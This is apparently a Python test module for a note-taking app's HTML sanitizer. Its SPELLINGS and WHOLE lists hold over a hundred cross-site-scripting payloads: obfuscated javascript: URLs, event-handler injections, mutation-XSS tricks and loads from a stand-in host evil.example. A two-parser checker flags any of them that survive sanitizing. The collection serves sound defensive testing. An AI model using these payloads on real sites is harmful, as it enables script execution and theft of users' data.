"""Attacks on whoever shows strangers' HTML, with the judge who looks for what is left of them."""

from __future__ import annotations

import re
import unicodedata
from html.parser import HTMLParser

import lxml.html

from pkm_app.content.elements import names

SPELLINGS = [
    "javascript:steal()",
    "JaVaScRiPt:steal()",
    " javascript:steal()",
    "\x01javascript:steal()",
    "java\tscript:steal()",
    "java\nscript:steal()",
    "java\rscript:steal()",
    "javascript\t:steal()",
    "&#106;avascript:steal()",
    "&#x6A;avascript:steal()",
    "&#0000106avascript:steal()",
    "java&#09;script:steal()",
    "java&Tab;script:steal()",
    "java&NewLine;script:steal()",
    "javascript&colon;steal()",
    "javascript&#58;steal()",
    "&#1;javascript:steal()",
    "&nbsp;javascript:steal()",
    "java\x00script:steal()",
    "java&#0;script:steal()",
    "\u200bjavascript:steal()",
    "java\u00adscript:steal()",
    "\ufeffjavascript:steal()",
    "\u2028javascript:steal()",
    "javascript://example.org/%0Asteal()",
    "javascript:javascript:steal()",
    "vbscript:steal()",
    "VBScript:steal()",
    "v&#98;script:steal()",
    "vb\tscript:steal()",
    "data:text/html,<script>steal()</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "DATA:image/svg+xml,<svg/onload=steal()>",
    "d\nata:text/html,x",
    "&#100;ata:text/html,x",
    "livescript:steal()",
    "mocha:steal()",
    "view-source:javascript:steal()",
    "jar:javascript:steal()",
    "feed:javascript:steal()",
    "blob:https://example.org/x",
    "file:///etc/passwd",
    "\\\\host\\share",
    "ms-msdt:/id",
    "x-apple:y",
    "about:blank",
    "filesystem:http://a/b",
    "obsidian://open?vault=x",
    "pkm://x",
    "intent:#Intent;end",
]

WHOLE = [
    "<script>steal()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>steal()</scr</script>ipt>",
    "<script\x0csrc=x>steal()</script>",
    "<script/x>steal()</script>",
    "<<script>steal();//<</script>",
    "<script>steal()",
    "<script src=//evil.example/x",
    "<img src=x onerror=steal()>",
    "<img/src=x/onerror=steal()>",
    '<img src="x"onerror="steal()">',
    "<img src=x one\nrror=steal() onerror\n=\nsteal()>",
    "<img \x00onerror=steal() src=x>",
    "<IMG SRC=x OnErRoR=steal()>",
    '<img src="`><img src=x onerror=steal()>`">',
    "<img srcset='//evil.example/a 2x'>",
    "<img lowsrc=javascript:steal()>",
    "<img dynsrc=javascript:steal()>",
    "<image src=x onerror=steal()>",
    "<img src=x:x onerror&#61;steal()>",
    "<svg onload=steal()>",
    "<svg><script>steal()</script></svg>",
    "<svg><a xlink:href=javascript:steal()><text>x</text></a></svg>",
    "<svg><animate onbegin=steal() attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:steal()>",
    "<svg><use href=//evil.example/x.svg#y>",
    "<svg><foreignObject><body onload=steal()></foreignObject></svg>",
    "<svg><style><img src=x onerror=steal()></style></svg>",
    "<svg><image href=//evil.example/a.png></svg>",
    "<svg><![CDATA[><img src=x onerror=steal()>]]></svg>",
    "<math href=javascript:steal()>x</math>",
    "<math><mi xlink:href=javascript:steal()>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=steal()>",
    "<math><annotation-xml encoding=text/html><style></annotation-xml><img src=x onerror=steal()></style>",
    "<noscript><p title='</noscript><img src=x onerror=steal()>'></noscript>",
    "<textarea><img title='</textarea><img src=x onerror=steal()>'>",
    "<title><img title='</title><img src=x onerror=steal()>'></title>",
    "<xmp><p title='</xmp><svg/onload=steal()>'></xmp>",
    "<template><script>steal()</script></template>",
    "<template shadowrootmode=open><img src=x onerror=steal()></template>",
    "<style>@import '//evil.example/a.css';</style>",
    "<style>body{background:url(//evil.example/a)}</style>",
    "<p style='background:url(//evil.example/a)'>x</p>",
    "<p style='width:expression(steal())'>x</p>",
    "<p style='-moz-binding:url(//evil.example/x.xml#y)'>x</p>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<link rel=prefetch href=//evil.example/a>",
    "<link rel=import href=//evil.example/a>",
    "<meta http-equiv=refresh content='0;url=javascript:steal()'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href='javascript:steal()//'><a href=x>x</a>",
    "<base href=//evil.example/><img src=x>",
    "<iframe src=javascript:steal()></iframe>",
    "<iframe srcdoc='<script>steal()</script>'></iframe>",
    "<iframe src=//evil.example/></iframe>",
    "<frameset><frame src=javascript:steal()></frameset>",
    "<object data=javascript:steal()></object>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=javascript:steal()>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=x.class codebase=//evil.example/></applet>",
    "<video src=//evil.example/a.mp4 autoplay onloadstart=steal()></video>",
    "<video poster=//evil.example/a.png></video>",
    "<video><source onerror=steal() src=x></video>",
    "<audio src=//evil.example/a.mp3 autoplay></audio>",
    "<track src=//evil.example/a.vtt>",
    "<body onload=steal()>",
    "<body background=//evil.example/a.png>",
    "<table background=//evil.example/a.png><tr><td background=//evil.example/b>x</table>",
    "<input type=image src=//evil.example/a.png onerror=steal()>",
    "<input autofocus onfocus=steal()>",
    "<select onfocus=steal() autofocus><option>x</select>",
    "<button formaction=javascript:steal()>x</button>",
    "<form action=javascript:steal()><input type=submit></form>",
    "<isindex action=javascript:steal()>",
    "<a href=https://example.org ping=//evil.example/p>x</a>",
    "<a href=https://example.org onclick=steal()>x</a>",
    "<a href=https://example.org target=_top>x</a>",
    "<details open ontoggle=steal()><summary>x</summary></details>",
    "<marquee onstart=steal()>x</marquee>",
    "<div onpointerenter=steal()>x</div>",
    "<p contenteditable onbeforeinput=steal() autofocus>x</p>",
    "<x onclick=steal()>x</x>",
    "<x-y is=z onfocus=steal() tabindex=1>x</x-y>",
    "<!--><img src=x onerror=steal()>-->",
    "<!-- --!><img src=x onerror=steal()> -->",
    "<!--[if gte IE 4]><script>steal()</script><![endif]-->",
    "<?xml-stylesheet href='javascript:steal()'?>",
    "<![CDATA[<img src=x onerror=steal()>]]>",
    "<!DOCTYPE x [<!ENTITY y '<script>'>]>&y;",
    "</p onclick=steal()>",
    "<p/onclick=steal()>x",
    "<b <img src=x onerror=steal()>",
    "<a href='x' <script>steal()</script>>x</a>",
    "<plaintext><img src=x onerror=steal()>",
    "<dialog open onclose=steal()>x</dialog>",
    "<portal src=//evil.example/></portal>",
    "<slot onslotchange=steal()>x</slot>",
    "<keygen autofocus onfocus=steal()>",
    "<blockquote cite=javascript:steal()>x</blockquote>",
    "<q cite=//evil.example/>x</q>",
    "<del cite=javascript:steal()>x</del>",
    "<bgsound src=//evil.example/a>",
    "<layer src=//evil.example/></layer>",
    "<noembed><img src=x onerror=steal()></noembed>",
    "<noframes><img src=x onerror=steal()></noframes>",
    "<p id=location>x</p><p id=__proto__>y</p>",
    "<a name=attributes>x</a>",
    "<img class=wp-smiley alt='<img src=x onerror=steal()>'>",
    "<img class=wp-smiley alt='&lt;script&gt;steal()&lt;/script&gt;'>",
    '<img class="wp-smiley" alt="\'"onerror=steal()">',
]

CARRIERS = ['<a href="{}">x</a>', '<img src="{}">', '<img data-pkm-src="{}">']

PAYLOADS = WHOLE + [carrier.format(spelling.replace('"', "&quot;")) for spelling in SPELLINGS for carrier in CARRIERS]

_ELEMENTS = names(
    "a abbr b bdi bdo blockquote br caption cite code dd del dfn div dl dt em h1 h2 h3 h4 h5 h6 hr i img ins kbd li "
    "mark ol p pre q rp rt ruby s samp small span strong sub sup table tbody td tfoot th thead time tr u ul var wbr"
)
_WORDS_ONLY = names("title alt lang dir id class width height colspan rowspan start value reversed datetime")

_RELATIVE = re.compile(r"(?:href|data-pkm-src)=['\"](?:\.\./)*[^/:?#.\s\\][^:?\s\\]*['\"]")


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.extend(judge_element(tag, {name: value or "" for name, value in attrs}))

    def handle_comment(self, data: str) -> None:
        self.found.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"declaration {decl!r}")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"instruction {data!r}")


def judge_element(tag: str, attributes: dict[str, str]) -> list[str]:
    """What is wrong with one element: everything that is not known to be harmless."""
    found = [] if tag in _ELEMENTS else [f"element {tag}"]
    for name, value in attributes.items():
        if name in ("href", "data-pkm-src"):
            fine = ("http://", "https://") if name != "href" else ("http://", "https://", "mailto:", "#")
            if not value.startswith(fine) or any(ord(ch) <= 32 or ord(ch) == 127 or ch in "\\<>\"'" for ch in value):
                unnamed = ("Cn", "Co")  # letters that repr escapes
                shown = "".join("x" if unicodedata.category(ch) in unnamed else ch for ch in value)
                found.append(f"{name}={shown!r}")
        elif name not in _WORDS_ONLY:
            found.append(f"attribute {name}")
        elif name == "id" and not value.startswith(("fn", "footnote")):
            found.append(f"id={value!r}")
    return found


def judge(html: str, relative: bool = False) -> list[str]:
    """Everything in ``html`` that could run, fetch or lead astray, as two parsers of different makes read it.

    With ``relative`` plain relative paths are harmless: they lead to the vault.
    """
    reader = _Reader()
    reader.feed(html)
    reader.close()
    found = reader.found
    for element in lxml.html.fragment_fromstring(html, create_parent="div").iter():
        if isinstance(element.tag, str):
            found.extend(judge_element(element.tag, dict(element.attrib)))
        else:
            found.append("a comment or instruction")
    return [fault for fault in found if not (relative and _RELATIVE.fullmatch(fault))]
